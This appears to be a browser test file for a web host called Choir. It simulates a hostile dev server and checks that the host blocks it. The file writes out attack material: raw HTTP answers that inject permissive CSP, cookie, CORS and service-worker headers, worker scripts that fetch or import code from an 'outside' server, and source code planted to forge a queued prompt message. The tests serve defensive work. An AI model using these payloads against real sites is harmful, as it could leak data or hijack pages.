// Shows that whatever a malicious dev server answers, and in whatever way, changes nothing of what
// the host says a browser may do with it.

import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import { test } from 'node:test'
import { atEnd, browse, Choir, claim, desktop, opened, say, until, visitor } from './harness.mjs'

// A server that a page must not reach, which records the requests that it got.
async function outside(t) {
  const asked = []
  const server = createServer((req, res) => {
    asked.push(req.url)
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('<p>outside</p>')
  })
  await new Promise((r) => server.listen(0, '127.0.0.1', r))
  atEnd(t, () => new Promise((r) => (server.closeAllConnections(), server.close(r))))
  return { asked, url: `http://127.0.0.1:${server.address().port}` }
}

const evil = ['Content-Security-Policy: default-src * data: blob:', 'Origin-Agent-Cluster: ?0', 'Permissions-Policy: camera=*', 'Set-Cookie: stolen=1; Path=/', 'Access-Control-Allow-Origin: *', 'Service-Worker-Allowed: /', 'Cross-Origin-Resource-Policy: cross-origin']

// What each path answers, byte by byte. OUT stands for the server outside.
function answers(out) {
  const tell = (kind) => `(async () => { try { await fetch('${out}/${kind}') } catch {} ; try { importScripts('${out}/${kind}-script') } catch {} ; self.postMessage && postMessage('ran'); self.onconnect = (e) => e.ports[0].postMessage('ran') })()`
  const ok = (body, ...heads) => ['HTTP/1.1 200 OK', 'Content-Type: text/javascript', `Content-Length: ${body.length}`, 'Connection: close', ...heads, '', body].join('\r\n')
  const chunked = (body, trailers) => ['HTTP/1.1 200 OK', 'Content-Type: text/javascript', 'Transfer-Encoding: chunked', 'Connection: close', '', body.length.toString(16), body, '0', ...trailers, '', ''].join('\r\n')
  const early = ['HTTP/1.1 103 Early Hints', `Link: <${out}/preload>; rel=preload; as=fetch; crossorigin`, `Link: <${out}>; rel=preconnect`, ...evil, '', ''].join('\r\n')
  return {
    'plain.js': ok(tell('plain'), ...evil),
    'early.js': early + ok(tell('early'), ...evil),
    'thrice.js': early + early + early + ok(tell('thrice')),
    'duplicated.js': ok(tell('duplicated'), ...evil, ...evil, 'Content-Type: text/javascript', 'Cache-Control: no-cache', 'Cache-Control: max-age=9'),
    'folded.js': ok(tell('folded'), 'X-A: b', ...evil.map((h) => ` ${h}`)),
    'trailers.js': chunked(tell('trailers'), evil),
    'cached.js': ok(tell('cached'), ...evil, 'Cache-Control: public, max-age=31536000, immutable', 'Etag: "a"'),
    'redirect.js': ['HTTP/1.1 302 Found', `Location: ${out}/redirect`, 'Content-Length: 0', 'Connection: close', ...evil, '', ''].join('\r\n'),
    'upgrade.js': ['HTTP/1.1 101 Switching Protocols', 'Upgrade: evil', 'Connection: Upgrade', ...evil, '', ok(tell('upgrade'))].join('\r\n'),
    'page.js': ok(`<script src="${out}/page"></script>`, ...evil).replace('text/javascript', 'text/html'),
  }
}

test('a hostile dev server', async (t) => {
  const out = await outside(t)
  const choir = await Choir.start(t)
  const config = choir.cli(['files', 'cat', 'choiros/vite.config.ts'])
  assert.match(config, /press\(\)\]/)
  const table = answers(out.url)
  choir.put(
    'choiros/vite.config.ts',
    `const says: Record<string, string> = ${JSON.stringify(table)}
const hostile = { name: 'hostile', configureServer: (s: any) => { s.middlewares.use((req: any, res: any, next: () => void) => {
  const said = says[(req.url ?? '').replace(/^.*\\/hostile\\//, '').replace(/\\?.*$/, '')]
  if (said === undefined) return next()
  res.socket.end(said)
}) } }
${config.replace('press()]', 'press(), hostile]')}`,
  )
  const { context } = await visitor(await browse(t), choir)
  const page = await claim(context, choir)
  const frame = await desktop(page)

  await t.test('the server outside can be reached by who may', async () => {
    const free = await context.newPage()
    await free.goto(`${out.url}/control`)
    await until('it was asked', () => out.asked.includes('/control'))
    await free.close()
    out.asked.length = 0
  })

  for (const kind of ['Worker', 'SharedWorker', 'module worker', 'script', 'module', 'worklet']) {
    await t.test(`its answers as a ${kind}`, async () => {
      const ran = await frame.evaluate(
        async ({ kind, names }) => {
          const late = (p) => Promise.race([p, new Promise((r) => setTimeout(r, 1500, 'late'))])
          const one = (name) => {
            const url = `/src/hostile/${name}`
            const said = (w, port) => late(new Promise((r) => ((w.onerror = () => r('failed')), (port.onmessage = () => r('ran')))))
            if (kind === 'Worker' || kind === 'module worker') {
              const w = new Worker(url, kind === 'Worker' ? {} : { type: 'module' })
              return said(w, w)
            }
            if (kind === 'SharedWorker') {
              const w = new SharedWorker(url)
              return said(w, w.port)
            }
            if (kind === 'module') return late(import(url).then(() => 'ran', () => 'failed'))
            if (kind === 'worklet') return late(CSS.paintWorklet.addModule(url).then(() => 'ran', () => 'failed'))
            const s = document.createElement('script')
            s.src = url
            document.head.append(s)
            return late(new Promise((r) => ((s.onload = () => r('ran')), (s.onerror = () => r('failed')))))
          }
          return Object.fromEntries(await Promise.all(names.map(async (n) => [n, await one(n)])))
        },
        { kind, names: Object.keys(table) },
      )
      // What is allowed does run, as otherwise the test would show nothing.
      for (const name of ['early.js', 'trailers.js', 'cached.js']) assert.notEqual(ran[name], 'failed', `${name}: ${JSON.stringify(ran)}`)
      for (const name of ['redirect.js', 'page.js', 'upgrade.js']) assert.notEqual(ran[name], 'ran', `${name}: ${JSON.stringify(ran)}`)
    })
  }

  await t.test('nothing went outside, no cookie was set, and the page is what it was', async () => {
    assert.deepEqual(out.asked, [])
    assert.ok((await context.cookies()).every((c) => c.name.startsWith('__Host-choir-')))
    assert.ok(await frame.evaluate(() => window.originAgentCluster), 'the page has an agent cluster of its own origin')
    assert.equal((await frame.evaluate(() => navigator.serviceWorker.getRegistrations())).length, 0)
    assert.equal(await frame.evaluate((u) => fetch(u).then(() => 'went out', () => 'stopped'), out.url), 'stopped')
  })
})

test('what a page that was taken back left is not sent by the next one, unless somebody says so', async (t) => {
  const { choir, page } = await opened(t)
  const shell = 'choiros/src/shell/Desktop.tsx'
  const words = 'Bring the page of the agents back'
  await desktop(page)
  const good = choir.cli(['files', 'cat', shell])
  assert.ok(good.includes('  useKeys()\n'))
  // It sends nothing itself: it has the console keep it, and breaks.
  const id = `${Date.now().toString(16).padStart(12, '0').replace(/^(.{8})(.{4})$/, '$1-$2')}-7abc-8def-0123456789ab`
  const item = JSON.stringify({ action: { type: 'prompt.submitted', id, data: { text: words } }, tries: 0, stuck: '' })
  const bad = `  window.parent.postMessage({ type: 'choir.keep', name: 'outbox', item: '${id}', value: ${JSON.stringify(item)} }, '*')\n  throw new Error('gone')\n`
  choir.put(shell, good.replace('  useKeys()\n', `  useKeys()\n${bad}`))
  const card = page.getByRole('alertdialog', { name: 'The desktop is down' })
  await card.getByRole('button', { name: /^Rewind/ }).click()
  await page.locator('iframe[data-role=shown][data-generation="1"]').waitFor()
  const fresh = await desktop(page)
  await fresh.getByTestId('waiting').getByText('1 not sent').waitFor()
  // What is written now goes by it: the older one would have gone first.
  await say(fresh, '!echo others go on')
  await fresh.getByRole('log').getByText('others go on').waitFor()
  const prompts = () => choir.events().filter((e) => e.type === 'prompt.submitted').map((e) => e.data.text)
  assert.deepEqual(prompts(), [])
  // It is shown, and its person may send it.
  await fresh.getByTestId('waiting').click()
  const left = fresh.getByRole('region', { name: 'What waits to be sent' })
  await left.getByText(words).waitFor()
  await left.getByText('A page that was taken back had left this.').waitFor()
  await page.screenshot({ path: 'out/taken-back.png' })
  await left.getByRole('button', { name: 'Send again' }).click()
  await until('it is sent', () => prompts().includes(words))
})

test('nor if the answer to the rewind was lost on its way', async (t) => {
  const { choir, page } = await opened(t)
  const shell = 'choiros/src/shell/Desktop.tsx'
  await desktop(page)
  const good = choir.cli(['files', 'cat', shell])
  const id = `${Date.now().toString(16).padStart(12, '0').replace(/^(.{8})(.{4})$/, '$1-$2')}-7abc-8def-0123456789ab`
  const item = JSON.stringify({ action: { type: 'prompt.submitted', id, data: { text: 'Bring it back' } }, tries: 0, stuck: '' })
  const bad = `  window.parent.postMessage({ type: 'choir.keep', name: 'outbox', item: '${id}', value: ${JSON.stringify(item)} }, '*')\n  throw new Error('gone')\n`
  choir.put(shell, good.replace('  useKeys()\n', `  useKeys()\n${bad}`))
  const card = page.getByRole('alertdialog', { name: 'The desktop is down' })
  await card.waitFor()
  await page.evaluate(() => {
    const real = window.fetch
    window.fetch = async (...asks) => {
      const answer = await real(...asks)
      if (String(asks[0]).endsWith('/rewind')) throw new TypeError('the line broke')
      return answer
    }
  })
  await card.getByRole('button', { name: /^Rewind/ }).click()
  await page.locator('#notes').getByText('The control plane does not answer.').first().waitFor()
  await until('the source went back', () => choir.cli(['files', 'cat', shell]) === good)
  await page.reload()
  const fresh = await desktop(page)
  await fresh.getByTestId('waiting').getByText('1 not sent').waitFor()
  assert.deepEqual(choir.events().filter((e) => e.type === 'prompt.submitted'), [])
})
